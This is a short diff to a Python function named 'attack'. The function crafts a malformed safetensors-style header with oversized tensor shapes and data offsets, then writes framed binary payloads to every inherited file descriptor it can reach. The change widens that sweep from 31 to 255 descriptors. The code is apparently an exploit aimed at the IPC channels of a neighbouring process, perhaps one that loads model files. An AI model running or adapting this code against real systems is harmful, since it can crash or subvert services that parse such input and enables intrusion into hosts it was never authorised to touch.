@@ -13,7 +13,7 @@ def attack(x):
     one = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}
     header = json.dumps({"a0": one, "a1": {**one, "shape": [2**38], "data_offsets": [8, 8 + 2**40]}}).encode()
     blob = struct.pack("<Q", len(header)) + header + bytes(32)
-    for fd in range(3, 32):
+    for fd in range(3, 256):
         try:
             os.write(fd, struct.pack("<BQQ", 8, len(body), len(blob)) + body + blob + struct.pack("<BQQ", 11, 4, 0) + b"null")
         except OSError:
